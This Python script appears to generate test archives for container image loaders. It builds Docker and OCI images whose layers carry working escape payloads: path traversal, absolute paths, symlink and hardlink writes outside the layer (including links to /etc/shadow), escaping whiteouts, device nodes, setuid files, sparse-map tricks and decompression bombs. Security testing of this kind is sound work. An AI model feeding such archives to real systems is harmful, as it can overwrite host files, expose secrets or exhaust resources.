#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Craft hostile layers and wrap each into an image archive whose digests and
# diff_ids are right, so only the layer's content (or a JSON's size) is the
# problem. Deterministic, no network; nothing is written outside OUTDIR.
#
# Usage: mklayer.py OUTDIR CANARY
#   CANARY is a host folder the images aim at (it should hold a file
#   "victim"); every archive is OUTDIR/<case>.tar, tagged "<case>:latest".
#
#   dotdot          "../../..CANARY/dotdot" and "a/../../..CANARY/dotdot2"
#   abs             "/CANARY/abs"
#   symlink-stored  symlinks to /etc/shadow and CANARY/victim kept as symlinks,
#                   then a file "over" replacing the symlink "over -> CANARY/victim"
#   symlink-write   "s -> CANARY", then the file "s/evil" (through it)
#   symlink-write2  "s -> ../../..CANARY", then the folder "s/d" (through it)
#   hardlink-abs    "h -> /CANARY/victim"
#   hardlink-dotdot "h -> ../../..CANARY/victim"
#   hardlink-sym    "s -> CANARY", "h -> s/victim"
#   hardlink-ok     "f", "h -> f", "sub/h2 -> ./sub/../f" (inside the layer)
#   symdir          layer 1 "lib -> CANARY", "l2 -> CANARY"; layer 2 the folder
#                   "lib" and "lib/x"; in layer 1 too, the folder "l2", "l2/y"
#   devices         a char device, a block device, a FIFO and a file
#   setid           04755 root, 02755, 0755, and 04750 owned 4242:4343 named root
#   sparse          "big": 64 MiB apparent (PAX sparse 1.0), 4 KiB of data
#   sparse-past     "past": 4 KiB apparent, its sparse map puts data at 64 MiB
#   whiteout-out    layer 1 "keep"; layer 2 whiteouts "../../../.wh.victim",
#                   "../../..CANARY/.wh.victim", "/CANARY/.wh.victim", "../../../.wh..wh..opq"
#   whiteout-sym    "s -> CANARY", then "s/.wh.victim"
#   whiteout-dotdot ".wh..." at the layer's root: a whiteout of "..", the folder of all layers
#   bomb-entries    300 empty files
#   bomb-bytes      gzip layer, one 8 MiB file of zeros
#   bomb-trailer    gzip layer, a small tar followed by 64 MiB of zeros
#   big-config      a config of 5 MiB (docker-archive)
#   big-manifest    a manifest.json of 5 MiB (docker-archive)
#   big-oci-manifest an OCI manifest blob of 5 MiB (oci-archive)
import gzip, hashlib, io, json, os, sys, tarfile

MTIME = 1700000000
MIB = 1024 * 1024


def info(name, mode=0o644, uid=0, gid=0):
    ti = tarfile.TarInfo(name)
    ti.mtime, ti.mode, ti.uid, ti.gid = MTIME, mode, uid, gid
    ti.uname = ti.gname = "root"
    return ti


def layer(entries, fmt=tarfile.GNU_FORMAT, trailer=b""):
    """entries: (kind, name, arg, extra...) tuples; returns the tar bytes."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for e in entries:
            kind, name = e[0], e[1]
            if kind == "file":
                data = e[2] if len(e) > 2 else b"pwned\n"
                ti = info(name, *(e[3:] if len(e) > 3 else ()))
                ti.size = len(data)
                t.addfile(ti, io.BytesIO(data))
                continue
            ti = info(name)
            if kind == "dir":
                ti.type, ti.mode = tarfile.DIRTYPE, 0o755
            elif kind == "sym":
                ti.type, ti.linkname, ti.mode = tarfile.SYMTYPE, e[2], 0o777
            elif kind == "hard":
                ti.type, ti.linkname = tarfile.LNKTYPE, e[2]
            elif kind in ("chr", "blk"):
                ti.type = tarfile.CHRTYPE if kind == "chr" else tarfile.BLKTYPE
                ti.devmajor, ti.devminor = e[2]
            elif kind == "fifo":
                ti.type = tarfile.FIFOTYPE
            elif kind == "raw":  # a ready-made member: (TarInfo, data)
                ti, data = e[2]
                t.addfile(ti, io.BytesIO(data))
                continue
            t.addfile(ti)
    return buf.getvalue() + trailer


def sparse_member(name, realsize, chunks):
    """A PAX 1.0 sparse member (GNU tar --sparse-version=1.0): the map as
    decimal lines padded to 512 bytes, then the data of each chunk."""
    mp = "%d\n" % len(chunks) + "".join("%d\n%d\n" % (off, len(d)) for off, d in chunks)
    mp = mp.encode()
    mp += b"\0" * (-len(mp) % 512)
    data = mp + b"".join(d for _, d in chunks)
    ti = info("GNUSparseFile.0/" + name)
    ti.size = len(data)
    ti.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0",
                      "GNU.sparse.name": name, "GNU.sparse.realsize": str(realsize)}
    return ("raw", name, (ti, data))


def sha(b):
    return hashlib.sha256(b).hexdigest()


def write_tar(path, files):
    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as t:
        for p in sorted(files):
            ti = info(p)
            ti.size = len(files[p])
            t.addfile(ti, io.BytesIO(files[p]))


def config(diff_ids, pad=0):
    cfg = {"architecture": "amd64", "os": "linux", "created": "2023-11-14T22:13:20Z",
           "config": {"Cmd": ["sh"]}, "rootfs": {"type": "layers", "diff_ids": diff_ids}}
    if pad:
        cfg["config"]["Labels"] = {"pad": "x" * pad}
    return json.dumps(cfg).encode()


def docker_archive(out, name, layers, gz=False, cfg_pad=0, manifest_pad=0):
    """layers: uncompressed tar bytes; gz: store them gzip-compressed."""
    files, diff_ids, paths = {}, [], []
    for data in layers:
        diff_ids.append("sha256:" + sha(data))
        blob = gzip.compress(data, mtime=0) if gz else data
        paths.append(sha(blob) + "/layer.tar")
        files[paths[-1]] = blob
    cfg = config(diff_ids, cfg_pad)
    files[sha(cfg) + ".json"] = cfg
    m = [{"Config": sha(cfg) + ".json", "RepoTags": [name + ":latest"], "Layers": paths}]
    if manifest_pad:
        m[0]["Pad"] = "x" * manifest_pad
    files["manifest.json"] = json.dumps(m).encode()
    write_tar(os.path.join(out, name + ".tar"), files)


def oci_archive(out, name, layers, manifest_pad=0):
    files, diff_ids, descs = {}, [], []
    for data in layers:
        diff_ids.append("sha256:" + sha(data))
        files["blobs/sha256/" + sha(data)] = data
        descs.append({"mediaType": "application/vnd.oci.image.layer.v1.tar",
                      "digest": "sha256:" + sha(data), "size": len(data)})
    cfg = config(diff_ids)
    files["blobs/sha256/" + sha(cfg)] = cfg
    man = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
           "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                      "digest": "sha256:" + sha(cfg), "size": len(cfg)},
           "layers": descs}
    if manifest_pad:
        man["annotations"] = {"pad": "x" * manifest_pad}
    mb = json.dumps(man).encode()
    files["blobs/sha256/" + sha(mb)] = mb
    files["index.json"] = json.dumps({
        "schemaVersion": 2,
        "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json",
                       "digest": "sha256:" + sha(mb), "size": len(mb),
                       "annotations": {"io.containerd.image.name":
                                       "docker.io/library/" + name + ":latest"}}]}).encode()
    files["oci-layout"] = b'{"imageLayoutVersion":"1.0.0"}'
    write_tar(os.path.join(out, name + ".tar"), files)


def main():
    out, esc = sys.argv[1], os.path.abspath(sys.argv[2])
    up = "../" * 24 + esc.lstrip("/")
    os.makedirs(out, exist_ok=True)

    def one(name, entries, **kw):
        docker_archive(out, name, [layer(entries)], **kw)

    one("dotdot", [("file", up + "/dotdot"), ("dir", "a"), ("file", "a/" + up + "/dotdot2")])
    one("abs", [("file", esc + "/abs")])
    one("symlink-stored", [("sym", "shadow", "/etc/shadow"), ("sym", "v", esc + "/victim"),
                           ("sym", "over", esc + "/victim"), ("file", "over", b"mine\n")])
    one("symlink-write", [("sym", "s", esc), ("file", "s/evil")])
    one("symlink-write2", [("sym", "s", up), ("dir", "s/d")])
    one("hardlink-abs", [("hard", "h", esc + "/victim")])
    one("hardlink-dotdot", [("hard", "h", up + "/victim")])
    one("hardlink-sym", [("sym", "s", esc), ("hard", "h", "s/victim")])
    one("hardlink-ok", [("file", "f", b"f\n"), ("hard", "h", "f"), ("dir", "sub"),
                        ("hard", "sub/h2", "./sub/../f")])
    docker_archive(out, "symdir", [
        layer([("sym", "lib", esc), ("sym", "l2", esc), ("dir", "l2"),
               ("file", "l2/y", b"y\n")]),
        layer([("dir", "lib"), ("file", "lib/x", b"x\n")])])
    one("devices", [("dir", "dev"), ("chr", "dev/mem2", (1, 1)), ("blk", "dev/sda9", (8, 0)),
                    ("fifo", "dev/pipe"), ("file", "f", b"f\n")])
    one("setid", [("file", "suid", b"#!/bin/sh\n", 0o4755), ("file", "sgid", b"g\n", 0o2755),
                  ("file", "plain", b"p\n", 0o755),
                  ("file", "owned", b"o\n", 0o4750, 4242, 4343)])
    docker_archive(out, "sparse", [layer([sparse_member("big", 64 * MIB,
                                                        [(32 * MIB, b"s" * 4096)])],
                                         fmt=tarfile.PAX_FORMAT)])
    docker_archive(out, "sparse-past", [layer([sparse_member("past", 4096,
                                                             [(64 * MIB, b"s" * 4096)])],
                                              fmt=tarfile.PAX_FORMAT)])
    docker_archive(out, "whiteout-out", [
        layer([("file", "keep", b"k\n")]),
        layer([("file", "../../../.wh.victim", b""), ("file", up + "/.wh.victim", b""),
               ("file", esc + "/.wh.victim", b""), ("file", "../../../.wh..wh..opq", b"")])])
    one("whiteout-sym", [("sym", "s", esc), ("file", "s/.wh.victim", b"")])
    one("whiteout-dotdot", [("file", ".wh...", b"")])
    one("bomb-entries", [("file", "f%03d" % i, b"") for i in range(300)])
    docker_archive(out, "bomb-bytes", [layer([("file", "zeros", b"\0" * (8 * MIB))])], gz=True)
    docker_archive(out, "bomb-trailer", [layer([("file", "f", b"f\n")],
                                               trailer=b"\0" * (64 * MIB))], gz=True)
    docker_archive(out, "big-config", [layer([("file", "f", b"f\n")])], cfg_pad=5 * MIB)
    docker_archive(out, "big-manifest", [layer([("file", "f", b"f\n")])],
                   manifest_pad=5 * MIB)
    oci_archive(out, "big-oci-manifest", [layer([("file", "f", b"f\n")])],
                manifest_pad=5 * MIB)


main()
